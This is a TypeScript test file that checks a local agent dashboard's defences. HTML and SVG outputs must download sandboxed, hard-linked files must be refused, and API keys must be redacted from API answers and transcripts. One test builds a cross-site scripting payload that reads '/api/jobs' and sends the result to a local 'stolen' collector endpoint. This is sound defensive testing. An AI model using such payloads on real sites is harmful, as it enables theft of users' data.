/**
 * The dashboard against hostile content (issue 11): an output that is HTML or SVG with script
 * in it, opened in the real browser (Debian's Chromium through playwright-core), must not run
 * in the dashboard's origin; a PDF downloads; a hard link dropped into an inbox is not served;
 * and an API key that reached a job's history reaches no JSON answer of the API.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { recorder } from '../../src/agent/transcript.js';
import { PLAIN_AND_HELD } from '../approve/helpers.js';
import { dashboardPerTest, request, type WebHome } from './helpers.js';

const openDashboard = dashboardPerTest(PLAIN_AND_HELD);

const fileUrl = (_w: WebHome, file: string): string => `/api/files?path=${encodeURIComponent(file)}`;

describe('hostile files', () => {
  it('a PDF, HTML or SVG output downloads, sandboxed; only images and text show in place', async () => {
    const web = await openDashboard();
    const dir = path.join(web.paths.home, 'outputs/plain');
    fs.mkdirSync(dir, { recursive: true });
    for (const [name, type] of [['a.pdf', 'application/pdf'], ['a.html', 'application/octet-stream'], ['a.svg', 'application/octet-stream']]) {
      fs.writeFileSync(path.join(dir, name as string), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
      const r = await request(web.port, 'GET', fileUrl(web, path.join(dir, name as string)), web.bearer);
      expect(r.status, name).toBe(200);
      expect(r.headers['content-type'], name).toBe(type);
      expect(r.headers['content-disposition'], name).toMatch(/^attachment/);
      expect(r.headers['content-security-policy'], name).toMatch(/^sandbox; default-src 'none'/);
      expect(r.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it('an HTML or SVG output cannot run script in the dashboard\'s origin (real browser)', async () => {
    const web = await openDashboard();
    const hits: string[] = [];
    const collector = http.createServer((req, res) => { hits.push(req.url ?? ''); res.end('ok'); });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    const cport = (collector.address() as AddressInfo).port;
    const dir = path.join(web.paths.home, 'outputs/plain');
    fs.mkdirSync(dir, { recursive: true });
    const steal = `fetch('/api/jobs').then((r) => r.text()).then((t) => fetch('http://127.0.0.1:${cport}/stolen?' + encodeURIComponent(t))); localStorage.setItem('pwned', '1'); document.title = 'PWNED';`;
    fs.writeFileSync(path.join(dir, 'page.html'), `<html><body><script>${steal}</script><img src=x onerror="${steal.replace(/"/g, '&quot;')}"></body></html>`);
    fs.writeFileSync(path.join(dir, 'image.svg'), `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal.replace(/"/g, '&quot;')}"><script>${steal}</script></svg>`);
    const context = await chromium.launchPersistentContext(fs.mkdtempSync(path.join(os.tmpdir(), 'dropwork-chromium-')), {
      executablePath: '/usr/bin/chromium', headless: true, acceptDownloads: true,
      args: ['--no-sandbox', '--headless', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    });
    try {
      const page = context.pages()[0] ?? (await context.newPage());
      const origin = `http://127.0.0.1:${web.port}`;
      await context.addCookies([{ name: `dropwork_${web.port}`, value: web.token, url: origin }]);
      await page.goto(`${origin}/`);
      for (const name of ['page.html', 'image.svg']) {
        const url = `${origin}${fileUrl(web, path.join(dir, name))}`;
        // Opened directly: a download, never a page.
        const download = page.waitForEvent('download', { timeout: 10_000 }).catch(() => undefined);
        await page.goto(url).catch(() => undefined);
        expect(await download, name).toBeDefined();
        // Framed or embedded from a dashboard page: refused, or an image that runs nothing.
        await page.goto(`${origin}/`);
        await page.evaluate(`for (const tag of ['iframe', 'object', 'embed', 'img']) {
          const el = document.createElement(tag);
          el.setAttribute(tag === 'object' ? 'data' : 'src', ${JSON.stringify(url)});
          document.body.appendChild(el);
        }`);
        await page.waitForTimeout(1500);
        expect(await page.evaluate(() => localStorage.getItem('pwned')), name).toBeNull();
        expect(await page.title(), name).not.toBe('PWNED');
      }
      expect(hits).toEqual([]);
    } finally {
      await context.close();
      collector.close();
    }
  }, 90_000);

  it('a hard link dropped into an inbox is not served; the inbox\'s own files are', async () => {
    const web = await openDashboard();
    const inbox = path.join(web.paths.home, 'inbox/plain');
    fs.mkdirSync(inbox, { recursive: true });
    const elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'dropwork-elsewhere-'));
    try {
      fs.writeFileSync(path.join(elsewhere, 'private.key'), 'PRIVATE KEY MATERIAL');
      fs.linkSync(path.join(elsewhere, 'private.key'), path.join(inbox, 'innocent.txt'));
      const r = await request(web.port, 'GET', fileUrl(web, path.join(inbox, 'innocent.txt')), web.bearer);
      expect(r.status).toBe(403);
      expect(r.body).not.toContain('PRIVATE KEY MATERIAL');
      fs.writeFileSync(path.join(inbox, 'own.txt'), 'mine');
      expect((await request(web.port, 'GET', fileUrl(web, path.join(inbox, 'own.txt')), web.bearer)).body).toBe('mine');
    } finally {
      fs.rmSync(elsewhere, { recursive: true, force: true });
    }
  });
});

describe('the API key', () => {
  // No telling shape: only its value, from credentials.env, can find it.
  const KEY = 'proxy-token-7f3a9c1e5b2d4068';

  it('reaches no answer of the JSON API, even when a job\'s history holds it', async () => {
    const web = await openDashboard();
    fs.writeFileSync(path.join(web.paths.home, 'credentials.env'), `ANTHROPIC_API_KEY=${KEY}\n`, { mode: 0o600 });
    const done = await web.run('plain', 'inbox/plain/k.txt', 'k');
    const held = await web.run('held', 'inbox/held/h.txt', 'h');
    const held2 = await web.run('held', 'inbox/held/h2.txt', 'h2');
    for (const job of [done, held, held2]) {
      web.store.log(job.id, 'tool_result', `the file said ${KEY}`, { output: `key=${KEY}`, nested: [{ k: KEY }] });
      web.store.log(job.id, 'assistant', `Sure, the key is ${KEY}`);
    }
    const gets = ['/api/status', '/api/jobs', `/api/jobs/${done.id}`, `/api/jobs/${held.id}`, '/api/rules', '/api/rules/plain/inbox', '/api/rules/held/inbox', '/api/spending', '/api/jobs?status=waiting', `/api/jobs?q=${KEY}`];
    for (const url of gets) {
      const r = await request(web.port, 'GET', url, web.bearer);
      expect(r.status, url).toBe(200);
      expect(r.body, url).not.toContain(KEY);
    }
    const posts: [string, string][] = [
      [`/api/jobs/${held.id}/deny`, JSON.stringify({ reason: `because ${KEY}` })],
      [`/api/jobs/${held2.id}/approve`, '{}'],
      [`/api/jobs/${done.id}/retry`, '{}'],
      [`/api/jobs/${done.id}/cancel`, '{}'],
      ['/api/rules/plain/test', JSON.stringify({ file: path.join(web.paths.home, 'inbox/plain/k.txt') })],
    ];
    for (const [url, body] of posts) {
      const r = await request(web.port, 'POST', url, web.page, body);
      expect(r.body, url).not.toContain(KEY);
    }
    for (const id of [done.id, held.id, held2.id]) expect((await request(web.port, 'GET', `/api/jobs/${id}`, web.bearer)).body).not.toContain(KEY);
  });

  it('is masked by the transcript store before the history keeps it', async () => {
    const web = await openDashboard();
    fs.writeFileSync(path.join(web.paths.home, 'credentials.env'), `ANTHROPIC_API_KEY=${KEY}\n`, { mode: 0o600 });
    const job = await web.run('plain', 'inbox/plain/t.txt', 't');
    const store = web.store;
    const record = recorder({ paths: web.paths, step: (kind, message, data) => store.log(job.id, kind, message, data) });
    record('tool_result', `echo ${KEY}`, { content: [{ type: 'text', text: `the key: ${KEY}` }], id: 'x' });
    record('assistant', `I found ${KEY} and sk-ant-api03-abcdefghijklmnop`);
    const stored = JSON.stringify(store.logs(job.id));
    expect(stored).not.toContain(KEY);
    expect(stored).not.toContain('sk-ant-api03-abcdefghijklmnop');
    expect(stored).toContain('redacted');
  });
});
